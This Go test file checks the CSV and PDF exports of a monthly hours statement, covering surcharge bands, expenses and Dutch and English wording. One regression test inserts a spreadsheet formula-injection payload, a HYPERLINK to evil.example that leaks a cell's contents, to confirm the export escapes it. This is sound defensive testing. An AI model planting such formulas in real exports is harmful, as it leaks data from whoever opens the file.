package secondment

import (
	"backoffice/internal/civil"
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"backoffice/internal/i18n"
	"backoffice/internal/pdfdoc"
	"backoffice/internal/testkit"
)

func exportFixture(t *testing.T) (StatementHeading, Statement) {
	t.Helper()
	loc := werktijden(t).Location()
	km := "123.5"
	st := BuildStatement(civil.Month{Year: 2026, Month: time.January}, []StatementEntry{
		priced(t, 11, StatusApproved, ams(2026, 1, 9, 22, 0), ams(2026, 1, 10, 2, 0), "100"),
		priced(t, 12, StatusSubmitted, ams(2026, 1, 12, 9, 0), ams(2026, 1, 12, 10, 0), "100"),
	}, []StatementExpense{{ID: 1, Date: date("2026-01-09"), Kind: ExpenseTravel, KM: &km, Description: "Utrecht – Zwolle", Amount: dec("28.41")}}, loc)
	st.Entries[0].Description = "storage outage, restore"
	h := StatementHeading{PlacementID: 5, Customer: "Acme B.V.", Technician: "Jan Jansen", Role: "Systeembeheerder",
		HourlyRate: dec("100"), Month: civil.Month{Year: 2026, Month: time.January}, Status: st.Status}
	return h, st
}

func TestWriteCSV(t *testing.T) {
	t.Parallel()
	h, st := exportFixture(t)
	var buf bytes.Buffer
	if err := WriteCSV(&buf, h, st, werktijden(t).Location()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		csvHeader,
		{"segment", "11", "2026-01-09", "2026-01-09T22:00:00+01:00", "2026-01-10T00:00:00+01:00", "evening", "120", "50", "150.00", "300.00", "storage outage, restore"},
		{"segment", "11", "2026-01-10", "2026-01-10T00:00:00+01:00", "2026-01-10T02:00:00+01:00", "non_working_day", "120", "100", "200.00", "400.00", "storage outage, restore"},
		{"band_total", "", "", "", "", "base", "0", "", "", "0.00", ""},
		{"band_total", "", "", "", "", "evening", "120", "", "", "300.00", ""},
		{"band_total", "", "", "", "", "night", "0", "", "", "0.00", ""},
		{"band_total", "", "", "", "", "non_working_day", "120", "", "", "400.00", ""},
		{"expense", "", "2026-01-09", "", "", "", "", "", "", "28.41", "travel: Utrecht – Zwolle (123.5 km)"},
		{"hours_total", "", "", "", "", "", "240", "", "100.00", "700.00", "2026-01"},
		{"expenses_total", "", "", "", "", "", "", "", "", "28.41", ""},
		{"total", "", "", "", "", "", "", "", "", "728.41", "open"},
	}
	if len(rows) != len(want) {
		t.Fatalf("SEC-4 csv has %d rows, want %d:\n%v", len(rows), len(want), rows)
	}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("SEC-4 csv row %d =\n%v\nwant\n%v", i, rows[i], want[i])
		}
	}
}

// TestWritePDF: the statement PDF is in the customer's language in the house document
// style: company block, the month in words, hours per segment with band and surcharge,
// band totals, expenses with km, the total, and the entries awaiting approval named (SEC-4).
func TestWritePDF(t *testing.T) {
	t.Parallel()
	h, st := exportFixture(t)
	h.Company = pdfdoc.Company{Name: "Cloudwise B.V.", KvK: "30123456", VATID: "NL812345678B01", IBAN: "NL91ABNA0417164300"}
	h.Address = []string{"Acme B.V.", "Stationsplein 1", "3511 ED  Utrecht"}
	h.PrintedAt = time.Date(2026, 2, 2, 9, 0, 0, 0, time.UTC)
	for lang, want := range map[string][]string{
		"nl": {"Urenoverzicht", "Urenoverzicht januari 2026", "Systeembeheerder: Jan Jansen bij Acme B.V.", "Cloudwise B.V.", "KvK 30123456", "Jan Jansen", "€ 100,00 excl. btw", "9 januari 2026",
			"22:00–", "avond", "nacht", "123,5 km Utrecht – Zwolle", "reiskosten", "€ 28,41", "Totaal excl. btw", "1 registratie van deze maand wacht nog op goedkeuring", "voorlopig", "maandelijks achteraf"},
		"en": {"Hours statement", "Hours statement January 2026", "Systeembeheerder: Jan Jansen at Acme B.V.", "CoC 30123456", "€100.00 excl. VAT", "9 January 2026", "evening", "night",
			"123.5 km Utrecht", "travel", "€28.41", "Total excl. VAT", "1 entry of this month still awaits approval", "provisional", "monthly in arrears"},
	} {
		h.Language = lang
		var buf bytes.Buffer
		if err := WritePDF(&buf, h, st, werktijden(t).Location()); err != nil {
			t.Fatal(err)
		}
		b := buf.Bytes()
		if !bytes.HasPrefix(b, []byte("%PDF-")) || !bytes.Contains(b[len(b)-16:], []byte("%%EOF")) || len(b) < 1000 {
			t.Fatalf("SEC-4 pdf is not a complete PDF document (%d bytes)", len(b))
		}
		txt := testkit.PDFText(t, "statement-"+lang, b)
		for _, w := range want {
			if !strings.Contains(txt, w) {
				t.Errorf("SEC-4 %s statement lacks %q:\n%s", lang, w, txt)
			}
		}
		for _, bad := range []string{"SEC-", "secondment.", "non_working_day", "2026-01", "(s)", "1 entries"} {
			if strings.Contains(txt, bad) {
				t.Errorf("%s statement prints %q", lang, bad)
			}
		}
		// the placement by its name, not its id (issue 13): the facts beside the address
		// read "Detachering Systeembeheerder: …", never "Detachering 5"
		if p := testkit.PDFPages(t, "statement-"+lang, b)[0]; strings.Contains(p, l10n(lang, "Detachering 5", "Placement 5")) {
			t.Errorf("%s statement names the placement by its id:\n%s", lang, p)
		}
	}
	if m := i18n.Missing(); len(m) > 0 {
		t.Errorf("missing translations: %v", m)
	}
}

func l10n(lang, nl, en string) string {
	if lang == "nl" {
		return nl
	}
	return en
}

func TestHoursMinutes(t *testing.T) {
	t.Parallel()
	for m, want := range map[int]string{0: "0:00", 75: "1:15", 1500: "25:00"} {
		if got := HoursMinutes(m); got != want {
			t.Errorf("HoursMinutes(%d) = %s, want %s", m, got, want)
		}
	}
}

// TestWriteCSVNeutralisesFormulas reproduces issue 9 #8: an hour description
// "=HYPERLINK(…)" became a live formula in the statement CSV.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	h, st := exportFixture(t)
	st.Entries[0].Description = `=HYPERLINK("https://evil.example/?"&A1,"Details")`
	var buf bytes.Buffer
	if err := WriteCSV(&buf, h, st, werktijden(t).Location()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][10]; got != `'=HYPERLINK("https://evil.example/?"&A1,"Details")` {
		t.Fatalf("description cell %q is a formula", got)
	}
}
